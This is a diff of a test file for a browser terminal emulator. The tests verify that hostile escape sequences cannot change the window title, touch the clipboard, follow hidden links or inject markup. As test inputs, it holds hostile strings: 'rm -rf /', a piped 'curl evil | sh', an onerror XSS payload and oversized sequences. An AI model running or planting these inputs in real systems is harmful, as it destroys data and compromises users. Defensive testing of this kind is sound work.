@@ -15,7 +15,7 @@ test('a terminal that prints a title does not change that of the window, nor rea
   const { machine, place, titles } = await givenTerminal()
   await print(machine, place, `${ESC}]0;rm -rf /${BEL}${ESC}]2;evil${ESC}\\${ESC}[21t${ESC}[20t`)
   expect(document.title).toBe('PC-12 | Remote Background')
-  expect(machine.heard).toBe('')
+  expect(machine.received).toBe('')
   // Its tab is called so, at most five times a second.
   await expect.poll(() => titles).toEqual(['evil'])
 })
@@ -27,7 +27,7 @@ test('a terminal that prints OSC 52 neither writes the clipboard nor reads it', 
   await print(machine, place, `${ESC}]52;c;${btoa('curl evil | sh')}${BEL}${ESC}]52;c;?${BEL}`)
   expect(write).not.toHaveBeenCalled()
   expect(read).not.toHaveBeenCalled()
-  expect(machine.heard).toBe('')
+  expect(machine.received).toBe('')
 })
 
 test('a link that a terminal prints is followed only after its real address was read and agreed to', async () => {
@@ -50,7 +50,7 @@ test('a link that a terminal prints is followed only after its real address was 
       screen.dispatchEvent(new MouseEvent(type, at))
   }
   await click(0)
-  // What is offered is what stands there, never what is hidden below.
+  // The link opens its visible text, never a hidden target.
   expect(ask).not.toHaveBeenCalledWith(expect.stringContaining('javascript'))
   ask.mockClear()
   await click(1)
@@ -58,7 +58,7 @@ test('a link that a terminal prints is followed only after its real address was 
   expect(open).not.toHaveBeenCalled()
 })
 
-test('markup is text, and an order without an end does not swallow what comes after it', async () => {
+test('markup is text, and an unterminated sequence does not swallow later output', async () => {
   const { machine, place } = await givenTerminal()
   machine.print(`<img src=x onerror=alert(1)>\r\n${ESC}]0;${'x'.repeat(2_000_000)}`)
   await print(machine, place, `${ESC}\\${ESC}[99999999999;99999999999H${ESC}[2147483647b${ESC}[H`)
